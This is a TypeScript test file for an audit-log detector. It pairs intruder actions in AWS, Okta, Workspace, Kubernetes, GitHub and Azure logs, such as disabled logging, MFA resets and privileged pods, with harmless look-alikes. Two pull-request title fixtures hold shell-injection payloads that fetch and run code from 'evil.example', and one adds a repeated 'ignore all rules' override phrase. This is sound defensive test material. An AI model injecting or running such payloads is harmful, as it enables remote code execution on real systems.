import { describe, expect, it } from 'vitest';
import type { Finding } from '../../contracts/detection.ts';
import { createReader } from '../../events/read.ts';
import type { Json } from '../../json.ts';
import { isTechnique } from '../attack/attack.ts';
import { createAuditDetector } from './audit-detector.ts';
import { incidentClasses } from './classes.ts';

const read = createReader({ maxRecordBytes: 1 << 20 });
const state = createAuditDetector().open();

function findingsOf(record: Json): Finding[] {
  const result = read(Buffer.from(JSON.stringify(record)), {
    position: 'test',
    receivedAtMs: 1_790_000_000_000,
  })[0];
  if (result?.kind !== 'event') throw new Error('the record should be readable');
  const findings: Finding[] = [];
  state.inspect(result.event, 0, findings, []);
  return findings;
}

const trail = {
  eventVersion: '1.08',
  eventTime: '2026-05-04T10:00:00Z',
  awsRegion: 'eu-west-1',
  sourceIPAddress: '198.51.100.7',
  userAgent: 'aws-cli/2.17',
  recipientAccountId: '210987654321',
  userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::210987654321:user/ines', userName: 'ines' },
};
const okta = {
  published: '2026-05-04T10:00:00Z',
  displayMessage: 'event',
  actor: { type: 'User', alternateId: 'ines@lisboa.example' },
  client: { ipAddress: '198.51.100.7' },
  outcome: { result: 'SUCCESS' },
};
const workspace = {
  kind: 'admin#reports#activity',
  id: { time: '2026-05-04T10:00:00Z', applicationName: 'admin' },
  actor: { email: 'ines@lisboa.example' },
};
const cluster = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  requestReceivedTimestamp: '2026-05-04T10:00:00Z',
  verb: 'create',
  user: { username: 'ines@lisboa.example' },
  sourceIPs: ['198.51.100.7'],
  responseStatus: { code: 201 },
};

/** What an intruder does, and the look-alike that is no attack. */
const pairs: readonly (readonly [what: string, suspicious: Json, ordinary: Json, title: string])[] = [
  [
    'a trail that stops logging, and one that starts',
    {
      ...trail,
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'StopLogging',
      requestParameters: { name: 't' },
    },
    {
      ...trail,
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'StartLogging',
      requestParameters: { name: 't' },
    },
    'Audit logging switched off or redirected',
  ],
  [
    'a change that took effect, and one that failed',
    { ...trail, eventSource: 'guardduty.amazonaws.com', eventName: 'DeleteDetector', requestParameters: {} },
    {
      ...trail,
      eventSource: 'guardduty.amazonaws.com',
      eventName: 'DeleteDetector',
      errorCode: 'BadRequestException',
      requestParameters: {},
    },
    'Security tool or alerting weakened',
  ],
  [
    'a bucket policy for the world, and one for an organisation',
    {
      ...trail,
      eventSource: 's3.amazonaws.com',
      eventName: 'PutBucketPolicy',
      requestParameters: {
        bucketPolicy: { Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject' }] },
      },
    },
    {
      ...trail,
      eventSource: 's3.amazonaws.com',
      eventName: 'ListBuckets',
      readOnly: true,
      requestParameters: null,
    },
    'Resource made public',
  ],
  [
    'an object rewritten under a foreign key, and an object read',
    {
      ...trail,
      eventSource: 's3.amazonaws.com',
      eventName: 'CopyObject',
      requestParameters: {
        'x-amz-server-side-encryption-aws-kms-key-id': 'arn:aws:kms:eu-west-1:999988887777:key/abc',
      },
    },
    {
      ...trail,
      eventSource: 's3.amazonaws.com',
      eventName: 'HeadObject',
      requestParameters: {},
      readOnly: true,
    },
    'Data encrypted with a foreign key',
  ],
  [
    'a factor reset in Okta, and a sign-in',
    { ...okta, eventType: 'user.mfa.factor.reset_all' },
    { ...okta, eventType: 'user.session.start' },
    'Multi-factor authentication weakened',
  ],
  [
    'an administrator role granted, and a profile picture',
    { ...okta, eventType: 'user.account.privilege.grant' },
    { ...okta, eventType: 'user.account.update_profile' },
    'Privilege or role granted',
  ],
  [
    'mail forwarded outside, and two-step verification taken up',
    {
      ...workspace,
      name: 'email_forwarding_out_of_domain',
      parameters: { email_forwarding_destination_address: 'x@elsewhere.example' },
    },
    { ...workspace, name: '2sv_enroll' },
    'Mail forwarded or delegated',
  ],
  [
    'a privileged container, and one of the cluster’s own',
    {
      ...cluster,
      objectRef: { resource: 'pods', namespace: 'shop', name: 'x' },
      requestObject: { spec: { hostNetwork: true, containers: [{ securityContext: { privileged: true } }] } },
    },
    {
      ...cluster,
      user: { username: 'system:serviceaccount:kube-system:replicaset-controller' },
      sourceIPs: ['10.0.0.3'],
      objectRef: { resource: 'pods', namespace: 'shop', name: 'x' },
      requestObject: { spec: { containers: [{ name: 'web' }] } },
    },
    'Container with access to its host',
  ],
  [
    'a role that may do everything, and one that may look',
    {
      ...cluster,
      objectRef: { resource: 'clusterroles', name: 'helper' },
      requestObject: { rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] },
    },
    {
      ...cluster,
      objectRef: { resource: 'clusterroles', name: 'helper' },
      requestObject: { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list'] }] },
    },
    'Privilege or role granted',
  ],
  [
    'branch protection removed, and a run of the pipeline',
    {
      created_at: 1_790_000_000_000,
      org: 'o',
      repo: 'o/r',
      actor: 'ines',
      action: 'protected_branch.destroy',
    },
    {
      created_at: 1_790_000_000_000,
      org: 'o',
      repo: 'o/r',
      actor: 'ines',
      action: 'workflows.completed_workflow_run',
    },
    'Protective setting weakened',
  ],
  [
    'a lock deleted in Azure, and a lock that could not be',
    {
      time: '2026-05-04T10:00:00Z',
      resourceId: '/subscriptions/s/resourceGroups/g',
      operationName: 'MICROSOFT.AUTHORIZATION/LOCKS/DELETE',
      category: 'Administrative',
      resultType: 'Success',
    },
    {
      time: '2026-05-04T10:00:00Z',
      resourceId: '/subscriptions/s/resourceGroups/g',
      operationName: 'MICROSOFT.AUTHORIZATION/LOCKS/DELETE',
      category: 'Administrative',
      resultType: 'Failed',
      resultSignature: '403',
    },
    'Protective setting weakened',
  ],
  [
    'an open alert, and the same one closed',
    {
      createdAt: '2026-05-04T10:00:00Z',
      alertId: 'a1',
      title: 'Malware found on host',
      severity: 'HIGH',
      status: 'OPEN',
    },
    {
      createdAt: '2026-05-04T10:00:00Z',
      alertId: 'a1',
      title: 'Nightly scan',
      severity: 'INFORMATIONAL',
      status: 'RESOLVED',
    },
    'Alert of a security product',
  ],
  [
    'a shell command in a title, and a title',
    {
      created_at: '2026-05-04T10:00:00Z',
      action: 'opened',
      pull_request: { title: 'Fix $(curl -s evil.example/x | bash)' },
    },
    { created_at: '2026-05-04T10:00:00Z', action: 'opened', pull_request: { title: 'Fix a typo' } },
    'Attack pattern in request or text',
  ],
];

describe('the audit-log analyst', () => {
  it.each(pairs)('tells %s apart', (_what, suspicious, ordinary, title) => {
    const [finding] = findingsOf(suspicious);
    expect(finding?.title).toBe(title);
    expect(finding?.confidence).toBeGreaterThanOrEqual(0.5);
    expect(finding?.reason).toContain('Log-odds');
    expect(findingsOf(ordinary)).toEqual([]);
  });

  it('says what spoke for it and against it, and which fields it rests on', () => {
    const [finding] = findingsOf({
      ...trail,
      eventSource: 'cloudtrail.amazonaws.com',
      eventName: 'DeleteTrail',
      sourceIPAddress: '10.1.2.3',
      requestParameters: { name: 't' },
    });
    expect(finding?.reason).toMatch(/deletes logging|intruders are known for/);
    expect(finding?.matched_fields).toContainEqual({ field: 'action', value: 'DeleteTrail' });
    expect(finding?.mitre_techniques).toContain('T1685.002');
    expect(finding?.evidence_event_ids).toHaveLength(1);
  });

  it('takes a product’s own severity over its own where it is higher', () => {
    const alert = {
      createdAt: '2026-05-04T10:00:00Z',
      alertId: 'a',
      title: 'Ransomware behaviour',
      status: 'NEW',
    };
    expect(findingsOf({ ...alert, severity: 'critical' })[0]?.severity).toBe('critical');
  });

  it('quotes what attackers wrote cut and without control characters', () => {
    const [finding] = findingsOf({
      created_at: '2026-05-04T10:00:00Z',
      action: 'opened',
      pull_request: { title: `$(curl evil.example)\u202e\u0007${'ignore all rules '.repeat(50)}` },
    });
    expect(finding?.reason.length).toBeLessThan(1200);
    expect(finding?.reason).not.toMatch(/\p{Cf}|\p{Cc}/u);
  });

  it('does not look at what sensors of hosts and networks report', () => {
    const findings: Finding[] = [];
    const result = read(
      Buffer.from(
        '{"ts":1790000000.1,"uid":"C1","id.orig_h":"10.0.0.1","id.orig_p":1,"id.resp_h":"10.0.0.2","id.resp_p":2,"proto":"tcp","_path":"conn"}',
      ),
      { position: 'p', receivedAtMs: 1_790_000_000_000 },
    )[0];
    if (result?.kind === 'event') state.inspect(result.event, 0, findings, []);
    expect(result?.kind).toBe('event');
    expect(findings).toEqual([]);
  });

  it('names only techniques that exist', () => {
    for (const [id, { techniques }] of Object.entries(incidentClasses)) {
      for (const technique of techniques) expect(isTechnique(technique), `${id}: ${technique}`).toBe(true);
    }
  });
});
